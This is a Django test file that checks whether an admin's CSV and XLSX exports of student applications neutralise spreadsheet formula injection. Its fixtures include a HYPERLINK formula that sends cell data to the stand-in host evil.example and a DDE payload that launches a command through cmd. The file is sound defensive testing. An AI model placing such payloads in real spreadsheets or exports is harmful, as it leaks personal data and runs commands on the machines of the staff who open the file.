"""Formula injection through the admin exports (issue 12): a student's name must never become a
live formula in the spreadsheet staff open."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import StaffFactory

from .factories import ApplicationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&E2&I2,"x")'


def _export(client, url, fmt):
    response = client.post(url, {"format": fmt})
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_application_export_neutralises_formulas_in_csv_and_xlsx(client):
    application = ApplicationFactory(complete=True, last_name=EVIL, first_name="+1+cmd|' /C calc'!A0")
    application.home_institution = "@SUM(1+1)"
    application.save()
    client.force_login(StaffFactory())
    url = reverse("admin:mobility_application_export")

    rows = list(csv.reader(io.StringIO(_export(client, url, "0").decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    assert row[header.index("last_name")] == "'" + EVIL
    assert row[header.index("first_name")].startswith("'+")
    assert row[header.index("home_institution")] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)

    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, url, "1"))).active
    cells = {c.value: c for c in sheet[2]}
    assert EVIL in cells, "the name is kept as typed in XLSX"
    assert cells[EVIL].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # Numbers stay numbers.
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in sheet[2])


def test_control_characters_do_not_break_the_xlsx_export(client):
    ApplicationFactory(complete=True, last_name="Bad\x01name")
    client.force_login(StaffFactory())
    content = _export(client, reverse("admin:mobility_application_export"), "1")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert "Bad\N{REPLACEMENT CHARACTER}name" in [c.value for c in sheet[2]]


def test_mobility_record_export_neutralises_formulas(client):
    from .factories_records import MobilityRecordFactory

    MobilityRecordFactory(student_name="-2+3+cmd")
    client.force_login(StaffFactory())
    url = reverse("admin:mobility_mobilityrecord_export")
    response = client.post(url, {"format": "0", "resource": "0", **_all_fields(client, url)})
    assert response.status_code == 200
    assert "'-2+3+cmd" in response.content.decode("utf-8-sig")


def _all_fields(client, url):
    """The export form lists one checkbox per field: tick them all."""
    form = client.get(url).context["form"]
    return {name: True for name in form.fields if name not in ("format", "resource", "export_items")}
